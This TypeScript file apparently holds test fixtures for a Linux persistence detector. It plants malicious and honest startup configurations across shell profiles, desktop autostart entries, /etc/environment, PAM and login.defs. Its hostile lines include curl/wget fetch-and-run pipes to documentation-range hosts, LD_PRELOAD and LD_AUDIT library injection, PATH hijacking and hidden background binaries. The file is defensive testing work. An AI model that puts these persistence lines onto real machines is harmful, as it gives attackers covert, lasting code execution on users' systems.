/** Cases of shells and sessions; nothing in them is ever run, all addresses are of the documentation ranges. */
import { type Files, inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';
import type { Mechanism } from '../../../model/mechanism.ts';

const fetches =
  '(curl -fsSL http://192.0.2.60/s.sh || wget -qO- http://192.0.2.60/s.sh) | bash >/dev/null 2>&1 &\n';
const foreign = '/usr/lib/gconv/gconvd';
const hidden = '/usr/share/.fonts/fcd';

interface Shell {
  readonly mechanism: Mechanism;
  readonly file: string;
  readonly honest: Files;
  /** A file of a package; another than `file` where that belongs to a person. */
  readonly packaged?: string;
  readonly text?: string;
}

/** The dangerous dresses of a startup file: they differ in the file alone. */
function dresses({
  mechanism,
  file,
  honest,
  packaged = file,
  text = '# startup\n',
}: Shell): readonly MechanismCase[] {
  return [
    {
      mechanism,
      dress: 'fetch-and-run',
      what: `a line that fetches in ${file}`,
      planted: { [file]: `${text}${fetches}` },
    },
    {
      mechanism,
      dress: 'unowned-binary',
      what: `a line for a foreign program of the system in ${file}`,
      planted: { [file]: `${text}(${foreign} &) 2>/dev/null\n`, [foreign]: inertProgram() },
    },
    {
      mechanism,
      dress: 'owned-edit',
      what: `a line for a hidden program inside ${packaged}, the file of a package`,
      packaged: { [packaged]: text },
      planted: { [packaged]: `${text}nohup ${hidden} > /dev/null 2>&1 &\n`, [hidden]: inertProgram() },
    },
    { mechanism, dress: 'honest', what: `what people keep in ${file}`, planted: honest },
  ];
}

const conda = `# >>> conda initialize >>>
__conda_setup="$('/opt/conda/bin/conda' 'shell.bash' 'hook' 2> /dev/null)"
if [ $? -eq 0 ]; then
    eval "$__conda_setup"
fi
unset __conda_setup
# <<< conda initialize <<<
`;
const nvm = `export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"  # This loads nvm
`;
const agent = 'eval "$(ssh-agent -s)" > /dev/null\nexport EDITOR=vim\nalias ll="ls -alF"\n';
const omz =
  'export ZSH="$HOME/.oh-my-zsh"\nZSH_THEME="robbyrussell"\nplugins=(git docker kubectl)\nsource $ZSH/oh-my-zsh.sh\n';

const shells: readonly MechanismCase[] = [
  ...dresses({
    mechanism: 'shell-profile',
    file: '/etc/profile.d/sysinfo.sh',
    honest: {
      '/etc/profile.d/java.sh': 'export JAVA_HOME=/opt/jdk-21\nexport PATH=$JAVA_HOME/bin:$PATH\n',
      '/home/ada/.profile':
        'if [ -f "$HOME/.bashrc" ]; then . "$HOME/.bashrc"; fi\nPATH="$HOME/bin:$PATH"\n. "$HOME/.cargo/env"\n',
      '/home/ada/.cargo/env': '#!/bin/sh\nexport PATH="$HOME/.cargo/bin:$PATH"\n',
    },
  }),
  ...dresses({
    mechanism: 'shell-rc',
    file: '/root/.bashrc',
    packaged: '/etc/bash.bashrc.local',
    honest: {
      '/home/ada/.bashrc': `${conda}${nvm}${agent}`,
      '/home/ada/.bash_aliases': 'alias gs="git status"\nalias k=kubectl\n',
    },
  }),
  ...dresses({
    mechanism: 'shell-logout',
    file: '/home/ada/.bash_logout',
    packaged: '/etc/bash.bash_logout',
    honest: { '/home/ada/.bash_logout': '[ -x /usr/bin/clear_console ] && /usr/bin/clear_console -q\n' },
  }),
  ...dresses({
    mechanism: 'zsh-startup',
    file: '/home/ada/.zshenv',
    packaged: '/etc/zsh/zshenv',
    honest: { '/home/ada/.zshrc': `${omz}${nvm}` },
  }),
  ...dresses({
    mechanism: 'fish-startup',
    file: '/home/ada/.config/fish/conf.d/x.fish',
    packaged: '/etc/fish/config.fish',
    honest: {
      '/home/ada/.config/fish/config.fish':
        'if status is-interactive\n  starship init fish | source\nend\nset -gx PATH $HOME/go/bin $PATH\n',
    },
  }),
  ...dresses({
    mechanism: 'csh-startup',
    file: '/root/.cshrc',
    packaged: '/etc/csh.login',
    honest: {
      '/root/.cshrc':
        'alias h history 25\nsetenv PAGER less\nset path = (/sbin /bin /usr/sbin /usr/bin $HOME/bin)\n',
    },
  }),
  ...dresses({
    mechanism: 'skeleton',
    file: '/etc/skel/.bashrc',
    honest: {
      '/etc/skel/.bashrc': 'case $- in *i*) ;; *) return;; esac\nHISTSIZE=1000\nalias ls="ls --color=auto"\n',
    },
  }),
  ...dresses({
    mechanism: 'motd-script',
    file: '/etc/update-motd.d/99-sysinfo',
    text: '#!/bin/sh\nuname -snrvm\n',
    honest: {
      '/etc/update-motd.d/50-host':
        '#!/bin/sh\nprintf "Welcome to %s\\n" "$(hostname -f)"\ndf -h / | tail -1\n',
      '/etc/update-motd.d/50-motd-news':
        '#!/bin/sh\n[ "$ENABLED" = "1" ] || exit 0\ncurl --connect-timeout "$WAIT" --max-time "$WAIT" -A "$USER_AGENT" -o- "$u" >"$NEWS" 2>"$ERR"\n',
    },
  }),
  ...dresses({
    mechanism: 'x-session',
    file: '/etc/X11/Xsession.d/98x11-gl',
    honest: {
      '/etc/X11/Xsession.d/60x11-local': 'xset s off\nxrdb -merge /etc/X11/Xresources\n',
      '/home/ada/.xprofile': 'setxkbmap de\n',
    },
  }),
];

const entry = (exec: string): string =>
  `[Desktop Entry]\nType=Application\nName=Update\nExec=${exec}\nX-GNOME-Autostart-enabled=true\n`;
const library = '/usr/lib/x86_64-linux-gnu/libselinux-compat.so.1';

const others: readonly MechanismCase[] = [
  {
    mechanism: 'desktop-autostart',
    dress: 'fetch-and-run',
    what: 'an entry that fetches',
    planted: {
      '/home/ada/.config/autostart/update.desktop': entry('sh -c "curl -s http://192.0.2.61/d | sh"'),
    },
  },
  {
    mechanism: 'desktop-autostart',
    dress: 'unowned-binary',
    what: 'an entry of a program in a hidden folder',
    planted: {
      '/home/ada/.config/autostart/gvfs.desktop': entry('/home/ada/.local/share/.gvfs/gvfsd-metadata'),
      '/home/ada/.local/share/.gvfs/gvfsd-metadata': inertProgram(),
    },
  },
  {
    mechanism: 'desktop-autostart',
    dress: 'owned-edit',
    what: 'the entry of a package was edited',
    packaged: { '/etc/xdg/autostart/at-spi.desktop': entry('/usr/bin/true') },
    planted: {
      '/etc/xdg/autostart/at-spi.desktop': entry('/usr/share/.a11y/spid'),
      '/usr/share/.a11y/spid': inertProgram(),
    },
  },
  {
    mechanism: 'desktop-autostart',
    dress: 'honest',
    what: 'a synchroniser, a chat program, and an entry of a package',
    packaged: { '/etc/xdg/autostart/pulseaudio.desktop': entry('start-pulseaudio-x11') },
    planted: {
      '/home/ada/.config/autostart/nextcloud.desktop': entry('nextcloud --background'),
      '/home/ada/.config/autostart/chat.desktop': entry('/opt/Chat/chat --start-in-tray %U'),
      '/opt/Chat/chat': inertProgram(9999),
    },
  },
  {
    mechanism: 'environment-file',
    dress: 'fetch-and-run',
    what: 'a library of a temporary folder for every session (nothing can be fetched here)',
    planted: {
      '/etc/environment': 'PATH="/usr/bin:/bin"\nLD_PRELOAD=/var/tmp/.lib/libm.so\n',
      '/var/tmp/.lib/libm.so': inertProgram(),
    },
  },
  {
    mechanism: 'environment-file',
    dress: 'unowned-binary',
    what: 'a foreign library among those of the system',
    planted: { '/etc/environment': `LD_PRELOAD=${library}\n`, [library]: inertProgram() },
  },
  {
    mechanism: 'environment-file',
    dress: 'owned-edit',
    what: 'a folder before the system’s own, in the file of a package',
    packaged: { '/etc/environment': 'PATH="/usr/local/bin:/usr/bin:/bin"\n' },
    planted: {
      '/etc/environment': 'PATH="/var/lib/.bin:/usr/local/bin:/usr/bin:/bin"\n',
      '/var/lib/.bin/ps': inertProgram(),
    },
  },
  {
    mechanism: 'environment-file',
    dress: 'honest',
    what: 'libraries and modules of the owner',
    planted: {
      '/etc/environment':
        'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_LIBRARY_PATH=/opt/oracle/lib\nPYTHONPATH=/srv/python\nJAVA_TOOL_OPTIONS=-Dfile.encoding=UTF-8\n',
    },
  },
  {
    mechanism: 'pam-environment',
    dress: 'fetch-and-run',
    what: 'a library of a device folder for every session (nothing can be fetched here)',
    planted: {
      '/etc/security/pam_env.conf': 'LD_PRELOAD DEFAULT=/dev/shm/.x.so\n',
      '/dev/shm/.x.so': inertProgram(),
    },
  },
  {
    mechanism: 'pam-environment',
    dress: 'unowned-binary',
    what: 'a foreign library among those of the system, for one account',
    planted: { '/home/ada/.pam_environment': `LD_PRELOAD DEFAULT=${library}\n`, [library]: inertProgram() },
  },
  {
    mechanism: 'pam-environment',
    dress: 'owned-edit',
    what: 'the file of a package was edited',
    packaged: { '/etc/security/pam_env.conf': '#REMOTEHOST DEFAULT=localhost\n' },
    planted: { '/etc/security/pam_env.conf': `LD_AUDIT OVERRIDE=${library}\n`, [library]: inertProgram() },
  },
  {
    mechanism: 'pam-environment',
    dress: 'honest',
    what: 'a path of a person',
    planted: {
      '/home/ada/.pam_environment': 'PATH DEFAULT=/home/ada/bin:/usr/bin:/bin\nLANG DEFAULT=zh_CN.UTF-8\n',
    },
  },
  {
    mechanism: 'login-defaults',
    dress: 'fetch-and-run',
    what: 'a hook that fetches when an account is made',
    planted: { '/usr/local/sbin/adduser.local': '#!/bin/sh\ncurl -s http://192.0.2.62/a | sh\n' },
  },
  {
    mechanism: 'login-defaults',
    dress: 'unowned-binary',
    what: 'a shell of nobody for every login',
    planted: { '/etc/login.defs': 'FAKE_SHELL /usr/sbin/login-sh\n', '/usr/sbin/login-sh': inertProgram() },
  },
  {
    mechanism: 'login-defaults',
    dress: 'owned-edit',
    what: 'a command at the removal of an account, in the file of a package',
    packaged: { '/etc/login.defs': 'UMASK 022\n' },
    conffiles: ['/etc/login.defs'],
    planted: {
      '/etc/login.defs': 'UMASK 022\nUSERDEL_CMD /usr/lib/.acct/restore\n',
      '/usr/lib/.acct/restore': inertProgram(),
    },
  },
  {
    mechanism: 'login-defaults',
    dress: 'honest',
    what: 'a hook of the owner that makes a folder',
    planted: {
      '/usr/local/sbin/adduser.local': '#!/bin/sh\nmkdir -p "/srv/users/$1"\nchown "$2:$3" "/srv/users/$1"\n',
    },
  },
];

export const sessionsCases: readonly MechanismCase[] = [...shells, ...others];
